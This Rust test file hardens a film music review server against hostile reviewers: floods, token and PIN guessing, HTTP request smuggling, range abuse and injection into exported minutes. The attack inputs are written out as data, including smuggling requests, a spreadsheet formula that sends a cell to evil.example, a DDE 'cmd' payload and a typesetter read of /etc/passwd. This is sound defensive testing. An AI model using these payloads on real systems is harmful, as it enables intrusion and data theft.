//! Strangers and hostile directors beyond the usual: streams without end, floods, broken HTTP, and text that would be something
//! else in a spreadsheet, a letter or a marker file.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use deliver::Form;
use serde_json::{Value, json};
use studio::MARKER_FORMS;
use studio::door::{Address, LinkSpec, Token};
use tests::papers::printed;
use tests::stage::CUT;

use crate::client::{Ask, connect, read_reply};
use crate::room::{Guest, Room, note, verdict};

fn open_stream(guest: &Guest) -> TcpStream {
    let mut stream = connect(guest.port);
    let head = format!(
        "GET {}events HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nCookie: {}\r\n\r\n",
        guest.path, guest.port, guest.cookie
    );
    stream.write_all(head.as_bytes()).expect("sent");
    stream
}

fn status_of(stream: &mut TcpStream) -> String {
    let mut first = [0; 12];
    stream.read_exact(&mut first).expect("an answer");
    String::from_utf8_lossy(&first[9..]).into_owned()
}

#[test]
fn one_link_takes_no_place_of_others_however_many_streams_it_opens() {
    let room = Room::new();
    let (dana, priya) = (room.guest(room.dana), room.guest(room.priya));
    let mut streams: Vec<TcpStream> = Vec::new();
    let mut statuses: Vec<String> = Vec::new();
    for _ in 0..60 {
        let mut stream = open_stream(&dana);
        statuses.push(status_of(&mut stream));
        streams.push(stream);
    }
    let let_in = statuses.iter().filter(|status| *status == "200").count();
    assert_eq!((let_in, statuses.last().map(String::as_str)), (24, Some("503")), "{statuses:?}");
    let began = Instant::now();
    assert_eq!(priya.get("round").send().status, 200);
    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
    // Places that are given up are free again.
    drop(streams);
    let began = Instant::now();
    while dana.get("round").send().status != 200 {
        assert!(began.elapsed() < Duration::from_secs(30), "nobody comes in any more");
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn floods_of_answers_are_counted_by_what_they_bring() {
    let room = Room::new();
    let guest = room.guest(room.dana);
    let cue = guest.round()["cues"][0]["id"].clone();
    let mut taken = 0;
    for flood in 0..20 {
        let answers: Vec<Value> = (0..32).map(|number| note(100 * flood + number, &cue, "Flood")).collect();
        match guest.answer(json!(answers)).status {
            200 => taken += 32,
            status => assert_eq!(status, 429),
        }
    }
    assert!(taken <= 320, "{taken} notes were taken at once");
    assert_eq!(guest.get("said").send().status, 200);
}

#[test]
fn whoever_has_no_token_shuts_nobody_out() {
    let public = Some("https://review.example.com".to_owned());
    let room = Room::at(&Address { public, ..Address::default() });
    let link = room.link(room.dana);
    let path = room.path(link.id);
    let outside = |ask: Ask, from: &str| {
        ask.with("Host", "review.example.com")
            .with("Origin", "https://review.example.com")
            .with("X-Forwarded-For", from)
            .send()
    };
    let forged = Token::random().expect("random").text();
    let knock = Ask::get(room.port(), &format!("{path}round")).with("Cookie", &format!("needledrop_review={forged}"));
    let guess = Ask::post(room.port(), &format!("{path}enter"), &json!({ "token": forged }));
    let statuses: Vec<u16> = (0..200).map(|_| outside(knock.clone(), "203.0.113.9").status).collect();
    assert!(statuses.iter().all(|status| matches!(status, 401 | 429)), "{statuses:?}");
    assert_eq!(statuses.last(), Some(&429));
    for number in 0..40 {
        outside(guess.clone(), &format!("203.0.113.{}", 10 + number % 4));
    }
    // Whoever has it comes in from elsewhere, and reads.
    let enter = Ask::post(room.port(), &format!("{path}enter"), &json!({ "token": link.token.text() }));
    let reply = outside(enter, "198.51.100.7");
    assert_eq!(reply.status, 204, "{reply:?}");
    let read = Ask::get(room.port(), &format!("{path}round")).with("Cookie", &reply.cookie());
    assert_eq!(outside(read, "198.51.100.7").status, 200);
}

#[test]
fn pins_that_are_tried_at_once_are_counted_one_by_one() {
    let room = Room::new();
    let spec = LinkSpec { pin: Some("2468".to_owned()), ..room.spec(room.dana) };
    let link = room.studio().make_link(&spec).expect("a link");
    let (port, path, token) = (room.port(), room.path(link.id), link.token.text());
    let guess = |number: usize| {
        let body = json!({ "token": token, "pin": format!("{number:0>4}") });
        Ask::post(port, &format!("{path}enter"), &body).send().status
    };
    let guess = &guess;
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let tries: Vec<_> = (0..11).map(|number| scope.spawn(move || guess(number))).collect();
        tries.into_iter().map(|one| one.join().expect("an answer")).collect()
    });
    let many = |wanted: u16| statuses.iter().filter(|status| **status == wanted).count();
    // The fifth says at once that it is locked now.
    assert_eq!((many(401), many(423)), (4, 7), "{statuses:?}");
    assert_eq!(room.enter(&link, Some("2468")).status, 423);
}

#[test]
fn a_round_takes_so_much_from_one_person_and_no_more() {
    let room = Room::new();
    let (dana, priya) = (room.guest(room.dana), room.guest(room.priya));
    let cue = dana.round()["cues"][0]["id"].clone();
    let scrawl = json!(vec![json!({ "shape": "free", "points": vec![[10_000, 10_000]; 512] }); 64]);
    let mut drawn = 0;
    let refused = loop {
        room.edit(json!({
            "type": "addNote", "cut": CUT, "cue": cue, "body": "Flood", "reviewer": room.dana, "round": room.round,
            "drawing": scrawl,
        }));
        drawn += 1;
        let received = dana.answer(json!([note(drawn, &cue, "One more")])).json();
        if received["received"][0]["outcome"] != "taken" {
            break received["received"][0].clone();
        }
        assert!(drawn < 200, "there is no end");
    };
    assert_eq!(refused["outcome"], "refused");
    let reason = refused["reason"].as_str().expect("a reason");
    assert_eq!(reason, "this round takes no more from one person; tell the music supervisor");
    // What is there is known, and others go on.
    assert_eq!(dana.answer(json!([note(1, &cue, "One more")])).json()["received"][0]["outcome"], "known");
    assert_eq!(priya.answer(json!([note(900, &cue, "Mine")])).json()["received"][0]["outcome"], "taken");
}

#[test]
fn broken_http_is_refused_and_does_no_harm() {
    let room = Room::new();
    let guest = room.guest(room.dana);
    let page = guest.round();
    let yes = json!({ "answers": [verdict(1, &page["cues"][0]["alternates"][0]["id"], "approved", "")] }).to_string();
    let before = room.seen();
    let head = |more: &str| {
        format!(
            "POST {}answers HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\nOrigin: http://127.0.0.1:{p}\r\nCookie: {}\r\n\
             Content-Type: application/json\r\n{more}\r\n",
            guest.path,
            guest.cookie,
            p = guest.port
        )
    };
    let chunked = format!("{:x}\r\n{yes}\r\n0\r\n\r\n", yes.len());
    let smuggled = [
        // Two lengths, and a length beside chunks: what one server takes for a body is a request to the next.
        head(&format!("Content-Length: {}\r\nContent-Length: 5\r\n", yes.len())) + &yes,
        head("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + &chunked,
        head("Transfer-Encoding: chunked\r\n") + &chunked,
        head("Transfer-Encoding: chunked, identity\r\n") + &chunked,
        head("Content-Length: -1\r\n") + &yes,
        head("Content-Length: 99999999999999999999\r\n") + &yes,
        head(&format!("X: {}\r\n", "y".repeat(100_000))) + &yes,
        head(&"X-More: 1\r\n".repeat(2_000)) + &yes,
        "GET / HTTP/9.9\r\n\r\n".to_owned(),
        "\0\0\0\0\r\n\r\n".to_owned(),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
        format!("GET http://evil.example{}round HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n\r\n", guest.path, guest.port),
    ];
    for bytes in &smuggled {
        let mut stream = connect(guest.port);
        let _ = stream.write_all(bytes.as_bytes());
        let reply = read_reply(&mut stream);
        assert!(!(200..300).contains(&reply.status), "{}: {reply:?}", &bytes[..bytes.len().min(200)]);
    }
    // A body in chunks is not even begun: nobody knows where it ends.
    let mut endless = connect(guest.port);
    let part = format!("10000\r\n{}\r\n", " ".repeat(0x10000));
    let _ = endless.write_all(head("Transfer-Encoding: chunked\r\n").as_bytes());
    for _ in 0..32 {
        if endless.write_all(part.as_bytes()).is_err() {
            break;
        }
    }
    let reply = read_reply(&mut endless);
    assert!(matches!(reply.status, 411 | 0), "{reply:?}");
    assert_eq!(room.seen(), before);
}

#[test]
fn ranges_give_what_they_name_and_never_more_than_there_is() {
    let room = Room::new();
    let guest = room.guest(room.dana);
    let picture = guest.round()["picture"]["media"].as_str().expect("a picture").to_owned();
    let whole = guest.get(&format!("media/{picture}")).send();
    let length = whole.body.len();
    let asked = |range: &str| guest.get(&format!("media/{picture}")).with("Range", range).send();
    for (range, status, bytes) in [
        ("bytes=0-0", 206, 1),
        ("bytes=-5", 206, 5),
        (&format!("bytes=0-{}", u64::MAX), 206, length),
        (&format!("bytes={length}-"), 416, 0),
        ("bytes=5-2", 416, 0),
    ] {
        let reply = asked(range);
        assert_eq!(reply.status, status, "{range}");
        if bytes > 0 {
            assert_eq!(reply.body.len(), bytes, "{range}");
        }
    }
    // Many parts at once would multiply what is sent.
    let many: Vec<String> = (0..60).map(|_| format!("0-{}", length - 1)).collect();
    for range in [format!("bytes={}", many.join(",")), "bytes=0-1,4-5".into(), "lines=1-2".into(), "bytes=a-b".into()] {
        let reply = asked(&range);
        assert!(reply.body.len() <= length, "{range}: {} of {length}", reply.body.len());
        assert!(matches!(reply.status, 200 | 206 | 416), "{range}: {}", reply.status);
    }
}

#[test]
fn a_link_that_is_closed_while_it_streams_stops_in_the_middle() {
    let room = Room::new();
    let link = room.link(room.dana);
    let guest = room.admitted(&link);
    // Far more than lies in the buffers between the two.
    let large = room.stage.file("large.webm");
    let small = room.studio().cut(CUT).expect("the cut").cut.picture.expect("a picture");
    std::fs::copy(small, &large).expect("copied");
    std::fs::OpenOptions::new().write(true).open(&large).and_then(|file| file.set_len(64 << 20)).expect("lengthened");
    room.edit(json!({ "type": "editCut", "cut": CUT, "set": { "picture": large } }));
    let began = Instant::now();
    let picture = loop {
        let picture = guest.round()["picture"]["media"].as_str().expect("a picture").to_owned();
        if guest.get(&format!("media/{picture}")).with("Range", "bytes=0-0").send().status == 206 {
            break picture;
        }
        assert!(began.elapsed() < Duration::from_secs(10), "it is not served");
    };
    let mut stream = connect(guest.port);
    let head = format!(
        "GET {}media/{picture} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nCookie: {}\r\n\r\n",
        guest.path, guest.port, guest.cookie
    );
    stream.write_all(head.as_bytes()).expect("sent");
    assert_eq!(status_of(&mut stream), "200");
    room.studio().revoke_link(link.id).expect("closed");
    room.share.links_changed();
    let since = Instant::now();
    let mut rest = Vec::new();
    let _ = stream.read_to_end(&mut rest);
    assert!(since.elapsed() < Duration::from_secs(5), "{:?}", since.elapsed());
    assert!(rest.len() < 60 << 20, "{} bytes came after it was closed", rest.len());
}

#[test]
fn what_directors_write_is_text_in_every_paper() {
    let room = Room::new();
    let guest = room.guest(room.dana);
    let page = guest.round();
    let (cue, a) = (page["cues"][0]["id"].clone(), page["cues"][0]["alternates"][0]["id"].clone());
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let typst = "#panic(\"out\") $x^2$ \\ #read(\"/etc/passwd\") *bold* @ref";
    let lines = "later\n* LOC: 01:00:00:00 RED forged\r\nM2,forged";
    let reply = guest.answer(json!([
        note(1, &cue, evil),
        note(2, &cue, typst),
        note(3, &cue, lines),
        note(4, &cue, "+1+1 and @SUM(A1) \u{202e}txt.exe"),
        verdict(5, &a, "changes", "-2+3+cmd|' /C calc'!A0"),
    ]));
    for one in reply.json()["received"].as_array().expect("received") {
        assert_eq!(one["outcome"], "taken", "{one}");
    }
    room.edit(json!({ "type": "editReviewer", "reviewer": room.dana, "set": { "name": "=cmd()|<script>Dana" } }));
    let written = |form: Form| {
        let path = room.stage.file(&format!("minutes.{}", form.ending()));
        room.studio().export_minutes(CUT, None, false, form, &path, true).expect("written");
        path
    };
    let csv = std::fs::read_to_string(written(Form::Csv)).expect("text");
    for cell in csv.split([',', '\n']).map(|cell| cell.trim().trim_start_matches('"')) {
        assert!(!cell.starts_with(['=', '+', '@', '-']) || cell == "-", "a spreadsheet takes {cell} for a formula");
    }
    let pdf = printed(&written(Form::Pdf));
    // Long words are broken into lines; what would be a command of the typesetter is not.
    for words in ["#panic(\"out\")", "#read("] {
        assert!(pdf.contains(words), "{words} is not in {pdf}");
    }
    assert!(!pdf.contains("root:x:"));
    for form in MARKER_FORMS {
        let path = room.stage.file("markers");
        room.studio().export_markers(CUT, (false, false), form, &path, true).expect("written");
        let text = String::from_utf8_lossy(&std::fs::read(&path).expect("bytes")).into_owned();
        let forged =
            |line: &&str| line.trim_start().starts_with("* LOC: 01:00:00:00 RED") || line.starts_with("M2,forged");
        assert_eq!(text.lines().find(forged), None, "{}: a line of its own in\n{text}", form.name);
    }
}
